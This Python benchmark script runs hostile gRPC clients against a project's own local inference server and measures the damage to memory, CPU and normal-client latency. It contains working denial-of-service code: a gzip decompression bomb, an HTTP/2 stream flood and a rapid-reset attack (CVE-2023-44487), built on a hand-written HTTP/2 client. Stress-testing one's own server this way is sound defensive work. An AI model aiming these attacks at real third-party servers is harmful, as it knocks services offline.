"""Hostile gRPC clients against `hearth serve`, and what they cost it.

    /usr/bin/python3 bench/serve/grpc_flood_bench.py --build build [--seconds 10] [--bomb-mib 1000]

Starts `hearth serve` (CPU, one `scale` model: 500 FP32 in, 1 out) with gRPC on
a free port, then runs, one after the other:
- bomb x1, bomb x8: a ModelInfer whose message is gzip (`grpc-encoding: gzip`)
  of --bomb-mib MiB of zeros (about 1 MB on the wire), on 1 and on 8 HTTP/2
  streams at once, written frame by frame within the server's flow-control
  windows;
- flood: --seconds of HEADERS frames with END_STREAM (a ModelInfer with no
  message) on new streams of one raw HTTP/2 connection;
- reset: --seconds of HEADERS then RST_STREAM(CANCEL) on new streams (the rapid
  reset of CVE-2023-44487);
each followed by --after seconds of quiet. The raw clients never acknowledge
the server's SETTINGS (as an attacker need not) and read and discard what the
server sends. Throughout, a second client (grpcio, its own connection) sends a
small ModelInfer every 50 ms and times it.

Per phase: the server process's RSS at the start, its peak (VmHWM, reset
before each phase through /proc/PID/clear_refs), its RSS at the end of the
attack and --after seconds later, the CPU seconds it used, the streams the
attacker opened, how the server ended the attack (the bomb: the time until its
streams ended; the floods: whether it closed the connection), and the normal
calls' latency (p50, max) and failures during the phase. One JSON line per
phase, a table at the end.
"""
import argparse
import importlib
import json
import os
import pathlib
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zlib

import numpy as np

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from config_bomb_bench import repository  # noqa: E402
from generate_bench import stop, wait_port  # noqa: E402

ROOT = pathlib.Path(__file__).resolve().parents[2]
CLK_TCK = os.sysconf("SC_CLK_TCK")
MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"


def stubs():
    from grpc_tools import protoc
    out = tempfile.mkdtemp(prefix="hearth-grpc-bench-stubs-")
    rc = protoc.main(["grpc_tools.protoc", f"-I{ROOT / 'proto'}", f"--python_out={out}",
                      f"--grpc_python_out={out}", str(ROOT / "proto" / "grpc_service.proto"),
                      str(ROOT / "proto" / "model_config.proto")])
    assert rc == 0, "grpc_tools.protoc could not compile proto/"
    sys.path.insert(0, out)
    return importlib.import_module("grpc_service_pb2"), importlib.import_module("grpc_service_pb2_grpc")


def start_server(cli, tmp, extra):
    repo = tmp / "repo"
    repository(repo, cli, bomb=False)
    log_path = tmp / "serve.log"
    proc = subprocess.Popen([cli, "serve", "--model-repository", str(repo), "--device", "cpu", "--http-port", "0",
                             "--grpc-port", "0", *extra], stdout=open(log_path, "w"), stderr=subprocess.STDOUT,
                            start_new_session=True)
    try:
        wait_port(log_path, r"ready on http", proc, timeout=120)  # logged after the gRPC port
    except SystemExit:
        stop(proc)
        raise
    port = int(re.search(r"KServe v2 gRPC on 127\.0\.0\.1:(\d+)", log_path.read_text()).group(1))
    return proc, port, log_path


def proc_status(pid):
    fields = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                fields[key] = int(value.split()[0]) * 1024
    with open(f"/proc/{pid}/stat") as f:
        parts = f.read().rsplit(")", 1)[1].split()
    fields["cpu_s"] = (int(parts[11]) + int(parts[12])) / CLK_TCK
    return fields


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def hpack_literal(name, value):
    """An HPACK literal without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    def string(text):
        b = text.encode()
        return bytes([len(b)]) + b
    return b"\x00" + string(name) + string(value)


def request_headers(port, extra=()):
    return b"".join(hpack_literal(n, v) for n, v in (
        (":method", "POST"), (":scheme", "http"), (":path", MODEL_INFER), (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"), ("te", "trailers"), *extra))


class RawH2:
    """One HTTP/2 connection written by hand. A reader thread discards what the
    server sends but its flow-control credit (WINDOW_UPDATE, SETTINGS'
    INITIAL_WINDOW_SIZE), the streams it ends (HEADERS with END_STREAM,
    RST_STREAM) and GOAWAY. The server's SETTINGS are acknowledged only with
    `ack_settings`; unacknowledged, the server holds this client to HTTP/2's
    default windows, which is what this client then assumes."""

    def __init__(self, port, ack_settings):
        self.ack_settings = ack_settings
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=60)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.cv = threading.Condition()
        self.conn_window = 65535
        self.initial_window = 65535
        self.stream_windows = {}
        self.ended = {}  # stream -> monotonic time the server ended it
        self.endings = {}  # stream -> (frame type, payload) that ended it
        self.goaway = False
        self.closed = False
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 20)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    with self.cv:
                        if kind == 8:  # WINDOW_UPDATE
                            inc = int.from_bytes(payload, "big") & 0x7FFFFFFF
                            if sid == 0:
                                self.conn_window += inc
                            else:
                                self.stream_windows[sid] = self.stream_windows.get(sid, self.initial_window) + inc
                        elif kind == 4 and not flags & 1 and self.ack_settings:  # SETTINGS
                            for i in range(0, len(payload), 6):
                                if int.from_bytes(payload[i:i + 2], "big") == 4:
                                    self.initial_window = int.from_bytes(payload[i + 2:i + 6], "big")
                            self.sock.sendall(frame(4, 0x1, 0))
                        elif (kind == 1 and flags & 1) or kind == 3:
                            self.ended.setdefault(sid, time.monotonic())
                            self.endings.setdefault(sid, (kind, payload))
                        elif kind == 7:
                            self.goaway = True
                        self.cv.notify_all()
        except OSError:
            pass
        with self.cv:
            self.closed = True
            self.cv.notify_all()

    def send_message(self, sid, headers, message, chunk=16384):
        """HEADERS, then `message` as DATA within the windows; stops early when
        the server ends the stream or the connection."""
        self.sock.sendall(frame(1, 0x4, sid, headers))
        sent = 0
        while sent < len(message):
            with self.cv:
                self.cv.wait_for(lambda: self.closed or sid in self.ended or (
                    self.conn_window > 0 and self.stream_windows.get(sid, self.initial_window) > 0), timeout=60)
                if self.closed or sid in self.ended:
                    return False
                n = min(chunk, len(message) - sent, self.conn_window, self.stream_windows.get(sid, self.initial_window))
                if n <= 0:
                    return False
                self.conn_window -= n
                self.stream_windows[sid] = self.stream_windows.get(sid, self.initial_window) - n
            last = sent + n == len(message)
            try:
                self.sock.sendall(frame(0, 0x1 if last else 0, sid, message[sent:sent + n]))
            except OSError:
                return False
            sent += n
        return True

    def wait_ended(self, sid, timeout):
        with self.cv:
            self.cv.wait_for(lambda: self.closed or sid in self.ended, timeout=timeout)
            return self.ended.get(sid)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def describe_end(kind, payload):
    """How the server ended a stream: RST_STREAM's error code, or the
    grpc-status in its trailers (sent as a literal: gRPC does not index it)."""
    if kind == 3:
        return f"RST_STREAM {int.from_bytes(payload, 'big')}"
    m = re.search(rb"grpc-status.([0-9]+)", payload)
    return f"grpc-status {m.group(1).decode()}" if m else "trailers"


def gzip_bomb(pb, mib):
    """A ModelInferRequest for `scale` whose one raw input is `mib` MiB of
    zeros, gzip-compressed, framed as a compressed gRPC message."""
    head = pb.ModelInferRequest(model_name="scale", inputs=[pb.ModelInferRequest.InferInputTensor(
        name="x", datatype="FP32", shape=[mib * (1 << 20) // 2000, 500])]).SerializeToString()
    size = mib << 20
    varint, v = b"", size
    while True:
        byte, v = v & 0x7F, v >> 7
        varint += bytes([byte | (0x80 if v else 0)])
        if not v:
            break
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [z.compress(head + b"\x3a" + varint)]  # field 7 (raw_input_contents), length-delimited
    zeros = bytes(16 << 20)
    for _ in range(mib // 16):
        out.append(z.compress(zeros))
    out.append(z.compress(bytes((mib % 16) << 20)))
    out.append(z.flush())
    body = b"".join(out)
    return b"\x01" + len(body).to_bytes(4, "big") + body


class Prober:
    """A normal client: a small ModelInfer every 50 ms, timed."""

    def __init__(self, pb, pb_grpc, port):
        import grpc
        self.grpc = grpc
        self.channel = grpc.insecure_channel(f"127.0.0.1:{port}")
        self.stub = pb_grpc.GRPCInferenceServiceStub(self.channel)
        self.request = pb.ModelInferRequest(model_name="scale", inputs=[pb.ModelInferRequest.InferInputTensor(
            name="x", datatype="FP32", shape=[1, 500])], raw_input_contents=[np.ones((1, 500), np.float32).tobytes()])
        self.samples = []  # (monotonic start, latency s, error or None)
        self.lock = threading.Lock()
        self.stop = threading.Event()
        self.stub.ModelInfer(self.request, timeout=30)
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.is_set():
            t0 = time.monotonic()
            error = None
            try:
                self.stub.ModelInfer(self.request, timeout=30)
            except self.grpc.RpcError as e:
                error = e.code().name
            with self.lock:
                self.samples.append((t0, time.monotonic() - t0, error))
            self.stop.wait(0.05)

    def window(self, t0, t1):
        with self.lock:
            return [s for s in self.samples if t0 <= s[0] < t1]

    def close(self):
        self.stop.set()
        self.thread.join()
        self.channel.close()


class Sampler:
    def __init__(self, pid):
        self.pid = pid
        self.samples = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.is_set():
            try:
                self.samples.append((time.monotonic(), proc_status(self.pid)))
            except OSError:
                return
            self.stop.wait(0.1)

    def close(self):
        self.stop.set()
        self.thread.join()


def flood(port, seconds, reset, reconnect=False):
    """Streams opened for `seconds`; returns (streams, connections, how many of
    them the server closed). With `reconnect`, a connection the server closes
    is followed by a new one until the time is up; else the attack ends with it."""
    headers = request_headers(port)
    opened, connections, closed = 0, 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        conn = RawH2(port, ack_settings=False)
        connections += 1
        sid = 1
        try:
            while time.monotonic() < end and not conn.closed:
                batch = []
                for _ in range(200):
                    if reset:
                        batch.append(frame(1, 0x4, sid, headers) + frame(3, 0, sid, (8).to_bytes(4, "big")))
                    else:
                        batch.append(frame(1, 0x5, sid, headers))
                    sid += 2
                conn.sock.sendall(b"".join(batch))
                opened += 200
        except OSError:
            pass
        by_server = conn.closed or conn.goaway or time.monotonic() < end
        closed += 1 if by_server else 0
        conn.close()
        if not reconnect:
            break
    return opened, connections, closed


def run_phase(name, pid, prober, after, attack):
    with open(f"/proc/{pid}/clear_refs", "w") as f:
        f.write("5")  # resets VmHWM to the current RSS
    sampler = Sampler(pid)
    start = proc_status(pid)
    t0 = time.monotonic()
    detail = attack()
    t1 = time.monotonic()
    at_end = proc_status(pid)
    time.sleep(after)  # a measured quiet period, not synchronisation
    t2 = time.monotonic()
    final = proc_status(pid)
    sampler.close()
    probes = prober.window(t0, t2)
    lat = sorted(p[1] for p in probes if p[2] is None)
    row = {
        "phase": name, "attack_s": round(t1 - t0, 2),
        "rss_start_mib": round(start["VmRSS"] / 2**20, 1),
        "rss_peak_mib": round(max([final["VmHWM"]] + [s[1]["VmRSS"] for s in sampler.samples]) / 2**20, 1),
        "rss_end_attack_mib": round(at_end["VmRSS"] / 2**20, 1),
        "rss_after_mib": round(final["VmRSS"] / 2**20, 1),
        "cpu_attack_s": round(at_end["cpu_s"] - start["cpu_s"], 2),
        "cpu_after_s": round(final["cpu_s"] - at_end["cpu_s"], 2),
        "probes": len(probes), "probe_failures": sum(1 for p in probes if p[2] is not None),
        "probe_errors": sorted({p[2] for p in probes if p[2] is not None}),
        "probe_p50_ms": round(lat[len(lat) // 2] * 1000, 1) if lat else None,
        "probe_max_ms": round(lat[-1] * 1000, 1) if lat else None,
        **detail,
    }
    print(json.dumps(row), flush=True)
    return row


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--build", default="build")
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--after", type=float, default=10)
    ap.add_argument("--bomb-mib", type=int, default=1000)
    ap.add_argument("--phases", default="bomb1,bomb8,flood,reset")
    ap.add_argument("--reconnect", action="store_true",
                    help="floods: open a new connection whenever the server closes one, until --seconds pass")
    ap.add_argument("--serve-arg", action="append", default=[], help="an extra `hearth serve` argument")
    args = ap.parse_args()
    pb, pb_grpc = stubs()
    tmp = pathlib.Path(tempfile.mkdtemp(prefix="hearth-grpc-flood-"))
    proc, port, log_path = start_server(str(pathlib.Path(args.build) / "bin" / "hearth"), tmp, args.serve_arg)
    rows = []
    try:
        prober = Prober(pb, pb_grpc, port)
        bomb = gzip_bomb(pb, args.bomb_mib)
        print(f"bomb: {args.bomb_mib} MiB of zeros, {len(bomb)} bytes on the wire", flush=True)
        gzip_headers = request_headers(port, (("grpc-encoding", "gzip"), ("grpc-accept-encoding", "identity,gzip")))

        def bombs(n):
            def attack():
                conn = RawH2(port, ack_settings=True)
                t0 = time.monotonic()
                senders = [threading.Thread(target=conn.send_message, args=(1 + 2 * i, gzip_headers, bomb))
                           for i in range(n)]
                for s in senders:
                    s.start()
                for s in senders:
                    s.join()
                ends = [conn.wait_ended(1 + 2 * i, 120) for i in range(n)]
                conn.close()
                return {"streams": n, "ended_after_s": round(max((e or float("inf")) for e in ends) - t0, 2),
                        "ended_by": sorted({describe_end(*conn.endings[s]) for s in conn.endings})}
            return attack

        for phase in args.phases.split(","):
            if phase == "bomb1":
                rows.append(run_phase(phase, proc.pid, prober, args.after, bombs(1)))
            elif phase == "bomb8":
                rows.append(run_phase(phase, proc.pid, prober, args.after, bombs(8)))
            elif phase in ("flood", "reset"):
                def attack(reset=phase == "reset"):
                    opened, connections, closed = flood(port, args.seconds, reset, args.reconnect)
                    return {"streams": opened, "connections": connections, "closed_by_server": closed}
                rows.append(run_phase(phase, proc.pid, prober, args.after, attack))
            else:
                sys.exit(f"unknown phase {phase}")
        prober.close()
    finally:
        stop(proc)
    cols = ["phase", "streams", "connections", "closed_by_server", "ended_by", "rss_start_mib", "rss_peak_mib", "rss_end_attack_mib", "rss_after_mib",
            "cpu_attack_s", "cpu_after_s", "probe_p50_ms", "probe_max_ms", "probe_failures"]
    print("\n| " + " | ".join(cols) + " |")
    print("|" + "---|" * len(cols))
    for r in rows:
        print("| " + " | ".join(str(r.get(c)) for c in cols) + " |")


if __name__ == "__main__":
    main()
